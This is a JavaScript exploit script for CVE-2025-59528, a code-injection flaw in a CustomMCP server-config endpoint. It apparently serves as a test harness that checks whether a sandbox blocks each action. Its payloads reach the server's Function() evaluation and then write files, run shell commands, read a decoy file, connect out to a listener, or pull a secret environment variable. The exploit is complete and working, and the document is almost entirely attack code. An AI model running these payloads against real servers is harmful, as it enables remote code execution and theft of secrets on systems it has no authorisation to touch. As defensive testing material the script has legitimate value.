// CVE-2025-59528 (GHSA-3gcm-f6qx-ff7p): CustomMCP mcpServerConfig -> Function('return '+x)() in the server process. Fixed 3.0.6.
// auth: API key or session. Modes: --mode write|exec|execfile|read|connect|env (default write). In-process JS: write needs only openat/write, exec needs clone+execve.
// The attacker writes what it got into the data directory, which a jail lets it write: so a blocked act shows its errno, and
// a payload that never ran is neither EXPLOITED nor blocked.
// connect says hello to a listener of this script's at --lhost and --lport; env looks for the variable --secret.
import { req, key, mark, xmark, xjail, rm, DECOY, LHOST, LPORT, SECRET, listen, outcome, payload, opt } from './lib.mjs'
const mode = opt('mode', 'write'), id = 'a01-' + mode, wrote = mode === 'write' ? mark(id) : xmark(id)
const seenInside = mode === 'write' ? wrote : xjail(id); rm(wrote); rm(xmark(id + '.errno'))
const R = `process.mainModule.require`
const js = {
  write: `${R}('fs').writeFileSync('${seenInside}','pid='+process.pid+' uid='+process.getuid())`,
  exec: `${R}('child_process').execSync('id > ${seenInside}')`,
  execfile: `${R}('child_process').execFileSync('/usr/bin/touch',['${seenInside}'])`,
  read: `${R}('fs').writeFileSync('${seenInside}','READ '+${R}('fs').readFileSync('${DECOY}','utf8'))`,
  connect: `var s=${R}('net').connect(${LPORT},'${LHOST}',function(){s.end('HELLO pid='+process.pid)});s.on('error',function(e){${R}('fs').writeFileSync('${xjail(id + '.errno')}',e.code)})`,
  env: `var v=process.env['${SECRET}'];if(v)${R}('fs').writeFileSync('${seenInside}','ENV '+v);else throw {code:Object.keys(process.env).join(',')}`
}[mode]
await key(); const listener = mode === 'connect' ? await listen(wrote) : null
const r = await req('POST', '/api/v1/node-load-method/customMCP', { loadMethod: 'listActions', inputs: { mcpServerConfig: `({x:(function(){${payload(js, id)};return 1})()})` } }, { key: true })
await outcome(id, wrote, r); listener?.close()
